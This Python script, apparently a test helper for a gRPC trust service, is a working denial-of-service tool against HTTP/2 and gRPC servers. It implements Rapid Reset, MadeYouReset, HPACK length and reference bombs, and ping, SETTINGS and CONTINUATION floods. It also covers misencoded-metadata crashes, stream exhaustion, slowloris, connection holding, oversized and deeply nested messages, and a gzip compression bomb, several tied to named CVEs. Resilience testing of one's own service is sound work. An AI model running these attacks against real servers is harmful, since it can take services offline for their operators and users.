"""A peer that means harm, from an address of its own: hostile_peer.py ATTACK HOST:PORT --source ADDRESS [--count N] [--seconds S] [--share N].

Prints one line of JSON, what it did and what was done to it, and exits with 0 whatever that was. Never talks to anything but the address it
is given. A process of its own, so that it takes no time from the client that it is to disturb.
"""

import argparse
import contextlib
import json
import resource
import select
import socket
import struct
import time
import zlib

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
CANCEL = 8
FRAME_MAX = 16_384
PATH = "/trust.v1.TrustService/AssessTrust"
SEND_BYTES = 1 << 18
# The last stream id that a connection has is 2^31 - 1; nobody comes near it here.
STREAMS_A_CONNECTION = 1_000_000
STREAMS_AT_ONCE = 100
WAVE = 80  # Calls; fewer than are allowed side by side.


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def literal(name, value):
    """A header that is in no table and goes into none; both parts have less than 127 bytes."""
    return b"\0" + b"".join(bytes((len(part),)) + part for part in (name.encode(), value.encode()))


def prefix_integer(value, bits):
    """An integer of HPACK, with no bits before it (RFC 7541, 5.1)."""
    limit = (1 << bits) - 1
    if value < limit:
        return bytes((value,))
    value -= limit
    out = [limit]
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes((*out, value))


def whole_frames(data):
    """The frames that are there in whole, each its kind, stream and payload; and the rest."""
    frames = []
    while len(data) >= 9 and len(data) >= 9 + int.from_bytes(data[:3], "big"):
        end = 9 + int.from_bytes(data[:3], "big")
        frames.append((data[3], int.from_bytes(data[5:9], "big"), data[9:end]))
        data = data[end:]
    return frames, data


def headers_of_call(authority):
    return ((":method", "POST"), (":scheme", "http"), (":path", PATH), (":authority", authority), ("te", "trailers"),
            ("content-type", "application/grpc"))


class Peer:
    """Connections to one address, one after the other or side by side, and the count of what happened to them."""

    def __init__(self, options):
        host, _, port = options.address.rpartition(":")
        self.target = (host, int(port))
        self.source = options.source
        self.authority = options.address
        self.count = options.count
        self.share = options.share
        self.deadline = time.monotonic() + options.seconds
        self.seen = {"attack": options.attack, "connections": 0, "refused": 0, "closed": 0, "sent": 0, "bytes": 0}
        self.block = b"".join(literal(name, value) for name, value in headers_of_call(self.authority))

    def has_time(self):
        return time.monotonic() < self.deadline

    def connect(self):
        """A connection that never blocks; None when it is not taken."""
        try:
            connection = socket.create_connection(self.target, timeout=2, source_address=(self.source, 0))
        except OSError:
            self.seen["refused"] += 1
            return None
        connection.setblocking(False)
        self.seen["connections"] += 1
        return connection

    def push(self, connection, data, read=True):
        """Sends all of the data, taking in whatever comes. False when the connection was closed or time is up."""
        view = memoryview(data)
        while view:
            if not self.has_time():
                return False
            readable, writable, _ = select.select([connection] if read else [], [connection], [], 0.2)
            try:
                if readable and not connection.recv(1 << 16):
                    return False
                if writable:
                    sent = connection.send(view[:SEND_BYTES])
                    self.seen["bytes"] += sent
                    view = view[sent:]
            except BlockingIOError:
                continue
            except OSError:
                return False
        return True

    def pour(self, chunks, read=True, opening=PREFACE + frame(SETTINGS, 0, 0)):
        """Sends chunks of (bytes, how many of what is counted they hold), over as many connections as it takes: chunks(n) makes
        those of one connection that are to hold n more."""
        while self.has_time() and self.seen["sent"] < self.count:
            connection = self.connect()
            if connection is None:
                time.sleep(0.01)  # As an attacker would, who wants its processor for the next one.
                continue
            with connection:
                alive = self.push(connection, opening, read)
                for data, held in chunks(self.count - self.seen["sent"]) if alive else ():
                    if not self.push(connection, data, read):
                        alive = False
                        break
                    self.seen["sent"] += held
                self.seen["closed"] += not alive and self.has_time()

    # The attacks, each by its name.

    def rapid_reset(self):
        """Calls that are made in whole and then reset (CVE-2023-44487)."""
        reset = struct.pack(">I", CANCEL)
        self.calls_that_end(lambda stream: frame(RST_STREAM, 0, stream, reset))

    def made_you_reset(self):
        """Calls that are made in whole and then spoken on so wrongly that the other side resets them (CVE-2025-8671)."""
        overflow = struct.pack(">I", 2**31 - 1)
        self.calls_that_end(lambda stream: frame(WINDOW_UPDATE, 0, stream, overflow))

    def calls_that_end(self, end_of):
        """In waves: a proxy that sees a call and its end at once never hands it on."""
        def chunks(left):
            for first in range(0, min(left, STREAMS_A_CONNECTION), WAVE):
                streams = [2 * number + 1 for number in range(first, min(first + WAVE, left))]
                calls = b"".join(frame(HEADERS, END_HEADERS, stream, self.block) + frame(DATA, 0, stream, bytes(5)) for stream in streams)
                yield calls, 0
                yield b"".join(map(end_of, streams)), len(streams)
        self.pour(chunks)

    def held_messages(self):
        """Calls of which each message lacks its last byte: as many as the count says, of 1 MiB, a hundred a connection, all held until time is up."""
        message = bytes(1) + struct.pack(">I", 1 << 20) + bytes((1 << 20) - 1)
        conversations = []
        for first in range(0, self.count, STREAMS_AT_ONCE):
            connection = self.connect()
            if connection is None:
                continue
            http = self.new_conversation()
            left = {}
            for number in range(first, min(first + STREAMS_AT_ONCE, self.count)):
                stream = http.get_next_available_stream_id()
                http.send_headers(stream, headers_of_call(self.authority))
                left[stream] = 0
            conversations.append((connection, http, left))
        while self.has_time() and conversations:
            for conversation in list(conversations):
                if not self.feed(*conversation, message):
                    self.seen["closed"] += 1
                    conversations.remove(conversation)
        self.seen["open"] = sum(len(left) for _, _, left in conversations)

    def feed(self, connection, http, left, message):
        """Sends what may be sent of each stream's message; false when the connection is closed."""
        readable = select.select([connection], [], [], 0.01)[0]
        try:
            if readable:
                data = connection.recv(1 << 16)
                if not data:
                    return False
                for event in http.receive_data(data):
                    if isinstance(event, (h2.events.StreamReset, h2.events.StreamEnded)):
                        left.pop(event.stream_id, None)
            for stream, sent in left.items():
                room = min(http.local_flow_control_window(stream), http.max_outbound_frame_size, len(message) - sent)
                if room > 0:
                    http.send_data(stream, message[sent:sent + room])
                    left[stream] += room
                    self.seen["sent"] += room
        except (OSError, h2.exceptions.ProtocolError):
            return False
        return self.push(connection, http.data_to_send(), read=False)

    @staticmethod
    def new_conversation():
        http = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8", validate_outbound_headers=False))
        http.initiate_connection()
        return http

    def ping_flood(self):
        data = frame(PING, 0, 0, bytes(8)) * 1000
        self.pour(lambda left: ((data, 1000) for _ in range(0, left, 1000)))

    def settings_flood(self):
        """Settings that each want to be acknowledged, by one who reads no acknowledgement."""
        data = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535)) * 1000
        self.pour(lambda left: ((data, 1000) for _ in range(0, left, 1000)), read=False)

    def hpack_length(self):
        """One header string that is announced as 64 MiB, and comes in CONTINUATION frames (CVE-2023-33953)."""
        start = b"\0" + bytes((1,)) + b"x" + prefix_integer(64 << 20, 7)

        def chunks(_):
            yield frame(HEADERS, 0, 1, self.block + start), 0
            data = frame(CONTINUATION, 0, 1, b"a" * FRAME_MAX)
            for _ in range((64 << 20) // FRAME_MAX):
                yield data, 1
        self.pour(chunks)

    def hpack_references(self):
        """A header of 4,000 bytes in the table, and then a block of nothing but references to it."""
        entry = b"\x40" + bytes((1,)) + b"x" + prefix_integer(3_900, 7) + b"a" * 3_900

        def chunks(_):
            yield frame(HEADERS, END_HEADERS | END_STREAM, 1, self.block + entry), 0
            references = b"\xbe" * (FRAME_MAX - len(self.block))
            for number in range(1, STREAMS_A_CONNECTION):
                stream = 2 * number + 1
                parts = [frame(HEADERS, END_STREAM, stream, self.block + references)]
                parts += [frame(CONTINUATION, 0, stream, b"\xbe" * FRAME_MAX) for _ in range(6)]
                parts.append(frame(CONTINUATION, END_HEADERS, stream, b"\xbe" * FRAME_MAX))
                yield b"".join(parts), 1
        self.pour(chunks)

    def empty_continuations(self):
        """CONTINUATION frames without end and without content."""
        data = frame(CONTINUATION, 0, 1) * 1000

        def chunks(left):
            yield frame(HEADERS, 0, 1, self.block), 0
            for _ in range(0, left, 1000):
                yield data, 1000
        self.pour(chunks)

    def misencoded_metadata(self):
        """A call, and then as many calls as the count says with an entry that is not in the base64 that its name promises, kept in the table with
        one behind it (CVE-2023-32732, CVE-2024-7246); and calls with references to the latter."""
        def indexed(name, value):
            return b"\x40" + literal(name, value)[1:]

        self.seen["statuses"] = {}
        connection = self.connect()
        if connection is None:
            return
        decoder, buffered, ended = hpack.Decoder(), b"", False
        blocks = [b"", *(indexed("x-bad-bin", "!!!") + indexed("x-good", "fine"), b"\xbe") * self.count]
        with connection:
            self.push(connection, PREFACE + frame(SETTINGS, 0, 0))
            for number, more in enumerate(blocks):
                stream = 2 * number + 1
                call = frame(HEADERS, END_HEADERS, stream, self.block + more) + frame(DATA, END_STREAM, stream, bytes(5))
                ended = not self.push(connection, call, read=False)
                while not ended and self.has_time():
                    frames, buffered = whole_frames(buffered)
                    for kind, at, payload in frames:
                        if kind == HEADERS:
                            for name, value in decoder.decode(payload):
                                if name == "grpc-status":
                                    self.seen["statuses"][value] = self.seen["statuses"].get(value, 0) + 1
                    if any(kind in (HEADERS, RST_STREAM) and at == stream for kind, at, _ in frames):
                        self.seen["sent"] += 1
                        break
                    if select.select([connection], [], [], 0.2)[0]:
                        with contextlib.suppress(OSError):
                            data = connection.recv(1 << 16)
                        ended, buffered = not data, buffered + data
                if ended:
                    self.seen["closed"] += 1
                    return

    def too_many_streams(self):
        """As many calls begun side by side on one connection as the count says, by a peer that has acknowledged what is allowed. Tells what was
        announced, and how many calls were reset, before time is up."""
        self.seen.update(announced={}, reset=0)
        connection = self.connect()
        if connection is None:
            return
        buffered, begun, ended = b"", False, False
        with connection:
            self.push(connection, PREFACE + frame(SETTINGS, 0, 0), read=False)
            while self.has_time() and not ended and self.seen["reset"] == 0:
                if select.select([connection], [], [], 0.2)[0]:
                    data = b""
                    with contextlib.suppress(OSError):
                        data = connection.recv(1 << 16)
                    ended, buffered = not data, buffered + data
                frames, buffered = whole_frames(buffered)
                for kind, _, payload in frames:
                    if kind == SETTINGS and payload:
                        self.seen["announced"] = dict(struct.iter_unpack(">HI", payload))
                    self.seen["reset"] += kind == RST_STREAM
                if self.seen["announced"] and not begun:
                    begun = True
                    # The acknowledgement is handled before what comes behind it.
                    calls = b"".join(frame(HEADERS, END_HEADERS, 2 * number + 1, self.block) for number in range(self.count))
                    ended = not self.push(connection, frame(SETTINGS, 1, 0) + calls, read=False)
                    self.seen["sent"] = self.count
            self.seen["closed"] += ended

    def slow_loris(self):
        """Connections that never finish what they begin: a byte now and then of the preface, of the first frame, of a header block. Counts how many are
        still open when time is up."""
        whole = PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, END_HEADERS, 1, self.block)
        at_once = (0, 10, len(PREFACE), len(PREFACE) + 4, len(PREFACE) + 9 + 4, len(PREFACE) + 9 + 20)
        self.hold(lambda number: (whole[:at_once[number % len(at_once)]], whole[at_once[number % len(at_once)]:]))

    def many_connections(self):
        """Connections that are greeted properly, and kept without a call."""
        self.hold(lambda number: (PREFACE + frame(SETTINGS, 0, 0), b""))

    def hold(self, words_of):
        """Opens the connections and keeps them; words_of gives what each says at once, and what it says a byte at a time."""
        limit = resource.getrlimit(resource.RLIMIT_NOFILE)
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(self.count + 100, limit[1]), limit[1]))
        poll, held, most = select.poll(), {}, 0

        def drop_closed(wait_ms):
            for number, _ in poll.poll(wait_ms):
                gone = True
                with contextlib.suppress(BlockingIOError, OSError):
                    gone = not held[number][0].recv(1 << 16)
                if gone:
                    poll.unregister(number)
                    held.pop(number)[0].close()
                    self.seen["closed"] += 1

        for number in range(self.count):
            connection = self.connect()
            if connection is not None:
                at_once, later = words_of(number)
                with contextlib.suppress(OSError):
                    connection.send(at_once)
                held[connection.fileno()] = connection, iter(later)
                poll.register(connection, select.POLLIN)
            drop_closed(0)
            most = max(most, len(held))
        while self.has_time() and len(held) > self.share:
            for connection, later in held.values():
                with contextlib.suppress(OSError, StopIteration):
                    connection.send(bytes((next(later),)))
            drop_closed(300)
        self.seen.update(sent=self.count, open=len(held), open_at_most=most)

    # Calls that are well formed and too much: each is answered, and the answer is what is told.

    def giant_message(self):
        """A message of as many MiB as the count says, none of it compressed."""
        self.call(bytes(1) + struct.pack(">I", self.count << 20) + bytes(self.count << 20))

    def endless_message(self):
        """The start of a message of which the rest never comes: 4 GiB are announced."""
        self.call(bytes(1) + b"\xff\xff\xff\xff" + bytes(1 << 20), end=False)

    def silent_call(self):
        """A call of which the message never begins."""
        self.call(bytes(4), end=False)

    def nested_message(self):
        """Unknown groups in groups, as deep as a million bytes allow: well formed, were it not for the depth."""
        depth = 500_000
        body = b"\x0b" * depth + b"\x0c" * depth
        self.call(bytes(1) + struct.pack(">I", len(body)) + body)

    def compression_bomb(self):
        """A message of few bytes that is as many MiB as the count says when it is unpacked."""
        packer = zlib.compressobj(1, zlib.DEFLATED, 31)
        body = b"".join(packer.compress(bytes(1 << 20)) for _ in range(self.count)) + packer.flush()
        self.seen["packed_bytes"] = len(body)
        self.call(b"\1" + struct.pack(">I", len(body)) + body, more=(("grpc-encoding", "gzip"),))

    def oversized_metadata(self):
        """As many KiB of metadata as the count says."""
        self.call(bytes(5), more=tuple((f"x-{number}", "a" * 1000) for number in range(self.count)))

    def many_metadata(self):
        """As many short entries of metadata as the count says."""
        self.call(bytes(5), more=tuple((f"x-{number}", "a") for number in range(self.count)))

    def call(self, body, more=(), end=True):
        """Makes one call and tells its status, or how it ended without one."""
        connection = self.connect()
        self.seen["ended"] = "not taken"
        if connection is None:
            return
        http = self.new_conversation()
        with connection:
            try:
                self.converse(connection, http, memoryview(body), [*headers_of_call(self.authority), *more], end)
            except (OSError, h2.exceptions.ProtocolError) as error:
                self.seen["ended"] = f"lost: {type(error).__name__}"

    def converse(self, connection, http, body, headers, end):
        self.seen["ended"] = "time is up"
        http.send_headers(1, headers)
        sending = True
        while self.has_time():
            while sending and body and (room := min(http.local_flow_control_window(1), http.max_outbound_frame_size, len(body))):
                http.send_data(1, body[:room].tobytes())
                body = body[room:]
                self.seen["sent"] += room
            if sending and not body:
                if end:
                    http.end_stream(1)
                sending = False
            if not self.push(connection, http.data_to_send(), read=False):
                self.seen["ended"] = "connection closed"
                return
            if not select.select([connection], [], [], 0.2)[0]:
                continue
            data = connection.recv(1 << 16)
            if not data:
                self.seen["ended"] = "connection closed"
                return
            for event in http.receive_data(data):
                if isinstance(event, (h2.events.ResponseReceived, h2.events.TrailersReceived)):
                    headers = dict(event.headers)
                    for name in (":status", "grpc-status", "grpc-message"):
                        if name in headers:
                            self.seen[name] = headers[name]
                    if "grpc-status" in headers:
                        self.seen["ended"] = "status"
                        return
                elif isinstance(event, h2.events.DataReceived):
                    http.acknowledge_received_data(event.flow_controlled_length, 1)
                elif isinstance(event, h2.events.StreamReset):
                    self.seen["ended"], self.seen["error_code"] = "stream reset", int(event.error_code)
                    return
                elif isinstance(event, h2.events.ConnectionTerminated):
                    self.seen["ended"], self.seen["error_code"] = "connection refused", int(event.error_code)
                    return
                elif isinstance(event, h2.events.StreamEnded):
                    self.seen["ended"] = "no status"
                    return


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("attack")
    parser.add_argument("address")
    parser.add_argument("--source", default="127.0.0.1")
    parser.add_argument("--count", type=int, default=1)
    parser.add_argument("--seconds", type=float, default=10)
    parser.add_argument("--share", type=int, default=0, help="of connections that are held; when no more are left the attack is over")
    options = parser.parse_args()
    peer = Peer(options)
    began = time.monotonic()
    getattr(peer, options.attack)()
    peer.seen["seconds"] = round(time.monotonic() - began, 2)
    print(json.dumps(peer.seen))


if __name__ == "__main__":
    main()
